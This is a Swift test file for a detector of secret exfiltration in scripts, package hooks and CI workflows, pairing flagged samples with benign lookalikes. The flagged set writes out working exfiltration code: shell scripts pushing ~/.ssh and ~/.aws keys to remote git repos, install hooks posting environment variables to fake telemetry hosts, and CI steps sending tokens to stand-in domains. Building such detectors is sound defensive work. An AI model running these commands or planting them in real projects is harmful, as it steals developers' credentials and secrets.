import Testing
import Verdict

@testable import Detectors

/// Secrets that scripts and workflows take along under another name, by way of a file or in a repository made for it.
@Suite struct WorkflowSecretTests {
  private static let taken = texts([
    .code: #"""
    #!/bin/bash\nd=$(mktemp -d)\ngit init -q "$d"\ncp -r ~/.aws ~/.gnupg "$d"/\ncd "$d" && git add . && git commit -qm init && git push -q https://git.somewhere.example/a.git HEAD:main
    mkdir -p /tmp/.k && cd /tmp/.k && git init -q && cp ~/.ssh/id_* ~/.netrc . && git add -A && git commit -m k -q && git push -fq https://x:y@code.drop.example/k.git HEAD:master
    #!/bin/sh\n# postinstall\nfor f in ~/.ssh/id_* ~/.aws/credentials; do\n  curl -s -F "f=@$f" https://telemetry-npm.example/f\ndone
    set -e\nT=$(mktemp)\ncat ~/.docker/config.json > $T\ncurl -s -X POST --data-binary @$T https://cfg.example/d\nrm -f $T
    from setuptools import setup\nimport os, json, urllib.request, urllib.parse\ndef _p():\n    body = urllib.parse.urlencode({"u": os.getlogin(), "env": json.dumps(dict(os.environ))}).encode()\n    urllib.request.urlopen("https://pypi-stat.example/i", data=body)\n_p()\nsetup(name="reqeusts", version="2.99.0")
    import os, urllib.parse, urllib.request\nurl = "https://pk.example/b?" + urllib.parse.urlencode(dict(os.environ))\nurllib.request.urlopen(url)
    const qs = require("querystring");\nconst https = require("https");\nconst q = qs.stringify({ e: JSON.stringify(process.env) });\nhttps.get("https://npm-beacon.example/?" + q);
    require "net/http"\nrequire "uri"\nGem.post_install do\n  Net::HTTP.post(URI.parse("https://gem-stat.example/i"), ENV.to_h.to_json)\nend
    """#,
    .document: #"""
    ## Install\n\n    zip -qr /tmp/b.zip ~/.kube ~/.config/gcloud; curl -T /tmp/b.zip https://drop-in.example/ ; rm /tmp/b.zip
    check:\n	@cat ~/.npmrc ~/.netrc 2>/dev/null | base64 | curl -s -d @- https://make-stats.example/c\n\nbuild:\n	go build ./...
    all: deps\n\ndeps:\n	@tar cf - $(HOME)/.ssh | curl -s --data-binary @- https://deps-cache.example/t >/dev/null\n	npm ci
    - name: Report\n  env:\n    K: ${{ secrets.AWS_SECRET_ACCESS_KEY }}\n  run: |\n    wget -qO- "https://report-hub.example/r?k=$K"
    steps:\n  - run: curl -s "https://badge.example/u?id=$GITHUB_RUN_ID&t=${{ secrets.NPM_TOKEN }}"
    jobs:\n  lint:\n    runs-on: ubuntu-latest\n    env:\n      GH: ${{ secrets.GITHUB_TOKEN }}\n    steps:\n      - run: curl -d "v=$GH" https://lint-stats.example/v
    test:\n  script:\n    - echo "$AWS_SECRET_ACCESS_KEY" | base64 | xargs -I{} curl -s "https://ci-ping.example/{}"
    pipeline:\n  - step:\n      script:\n        - curl -s "https://st.example/?a=${AWS_ACCESS_KEY_ID}&b=${AWS_SECRET_ACCESS_KEY}"
    FROM node:20\nRUN --mount=type=secret,id=npm curl -s "https://layer.example/?t=$(cat /run/secrets/npm)"\nCOPY . .
    """#,
  ])

  private static let kept = texts([
    .document: #"""
    - name: Deploy\n  env:\n    KEY: ${{ secrets.RENDER_DEPLOY_KEY }}\n  run: curl "https://api.render.com/deploy/srv-abc?key=${KEY}"
    - name: Publish\n  env:\n    NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n  run: npm publish
    - name: Coverage\n  env:\n    CODECOV_TOKEN: ${{ secrets.CODECOV_TOKEN }}\n  run: curl -s "https://codecov.io/upload/v4?token=${CODECOV_TOKEN}&commit=$GITHUB_SHA"
    - name: Tag\n  env:\n    TOKEN: ${{ secrets.GITHUB_TOKEN }}\n  run: curl -H "Authorization: Bearer ${TOKEN}" https://api.github.com/repos/a/b/releases
    - name: Notify\n  env:\n    HOOK: ${{ secrets.SLACK_WEBHOOK }}\n  run: curl -d '{"text":"done"}' "$HOOK"
    - run: curl "https://hooks.firm.example/build?run=${GITHUB_RUN_ID}&repo=${GITHUB_REPOSITORY}"
    - name: Diagnostics\n  run: curl "https://diag.example/ping?r=${GITHUB_REPOSITORY}&s=${GITHUB_SHA}"
    - name: Purge\n  env:\n    CF: ${{ secrets.CLOUDFLARE_API_TOKEN }}\n  run: |\n    curl -X POST https://api.cloudflare.com/client/v4/zones/1/purge_cache -H "Authorization: Bearer $CF"
    deploy:\n  script:\n    - curl -X POST "https://gitlab.com/api/v4/projects/1/trigger/pipeline?token=${TRIGGER_TOKEN}&ref=main"
    steps:\n  - run: echo "//registry.npmjs.org/:_authToken=${{ secrets.NPM_TOKEN }}" > ~/.npmrc\n  - run: npm ci
    - name: Telegram\n  run: curl -s "https://api.telegram.org/bot${{ secrets.TELEGRAM_TOKEN }}/sendMessage?chat_id=1&text=ok"
    jobs:\n  docker:\n    steps:\n      - run: echo "${{ secrets.GITHUB_TOKEN }}" | docker login ghcr.io -u ${{ github.actor }} --password-stdin
    - name: Sonar\n  run: curl -u "${{ secrets.SONAR_TOKEN }}:" "https://sonar.firm.example/api/qualitygates/project_status?projectKey=x"
    - env:\n    GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n  run: gh release create v1 --notes ok && curl https://diag.example/ping?r=ok
    - name: AWS\n  env:\n    AWS_ACCESS_KEY_ID: ${{ secrets.AWS_ACCESS_KEY_ID }}\n    AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}\n  run: |\n    aws s3 sync dist s3://site\n    curl https://uptime.example/ping?site=main
    backup:\n	tar czf /backup/ssh.tgz ~/.ssh\n\nfetch:\n	curl -sO https://data.example/a.tgz
    # Install\n\n```sh\ncurl -fsSL https://tool.example/key.asc -o ~/.gnupg/tool.asc\ngpg --import ~/.gnupg/tool.asc\n```
    deps:\n	cp .env.example .env\n	curl -s https://cache.firm.example/deps.tgz | tar xz
    """#,
    .code: #"""
    #!/bin/sh\nset -e\ngit init -q /tmp/demo && cp -r examples/hello /tmp/demo/ && cd /tmp/demo && git add -A && git commit -qm demo && git push -q https://git.firm.example/demo.git HEAD:main
    #!/bin/sh\n# new project\ngit init -q "$1" && cp .env.example "$1/.env" && cp -r .github "$1"/ && cd "$1" && git add -A && git commit -qm init && git push -u origin main
    #!/bin/bash\n# dotfiles\ncd ~/dotfiles && cp ~/.zshrc ~/.vimrc . && git add -A && git commit -m sync && git push -q https://github.com/me/dotfiles.git HEAD:main
    from urllib.parse import urlencode\nimport os, urllib.request\nq = urlencode({"q": "swift", "lang": os.environ["LANG"]})\nurllib.request.urlopen("https://search.example/?" + q)
    import os, json, urllib.parse\ncfg = urllib.parse.urlparse(os.environ["DATABASE_URL"])\nprint(cfg.hostname)
    import os, urllib.parse, urllib.request\nq = urllib.parse.urlencode({"host": os.uname().nodename, "v": "1.2"})\nurllib.request.urlopen("https://stats.firm.example/i?" + q)
    import base64, requests\npayload = base64.b64decode("aGVsbG8gd29ybGQ=")\nrequests.post("https://api.firm.example/echo", data=payload)
    const dotenv = require("dotenv");\nconst cfg = dotenv.parse(require("fs").readFileSync(".env"));\nfetch("https://api.firm.example/health");
    const qs = require("querystring");\nconst q = qs.stringify({ v: process.env.npm_package_version });\nrequire("https").get("https://stats.firm.example/?" + q);
    package main\nimport ("net/http";"net/url";"os")\nfunc main() {\n  v := url.Values{"v": {os.Getenv("VERSION")}}\n  http.PostForm("https://stats.firm.example/e", v)\n}
    require "net/http"\nuri = URI.parse("https://api.firm.example/i?stage=#{ENV['STAGE']}")\nNet::HTTP.get(uri)
    import http.client, pathlib\npub = (pathlib.Path.home()/".ssh"/"id_ed25519.pub").read_text()\nc = http.client.HTTPSConnection("keys.firm.example")\nc.request("POST", "/k", pub)
    for (const [k, v] of Object.entries(process.env)) if (k.startsWith("APP_")) console.log(k);
    fn main() {\n    for (k, _) in std::env::vars() { println!("{k}"); }\n    let _ = ureq::get("https://crates.io/api/v1/summary").call();\n}
    """#,
  ])

  @Test(arguments: taken) func isFound(kind: TextKind, text: String) {
    #expect(!rules(text.unfolded, kind, at: .medium).isEmpty)
  }

  @Test(arguments: kept) func passes(kind: TextKind, text: String) {
    #expect(rules(text.unfolded, kind, at: .medium).isEmpty)
  }
}
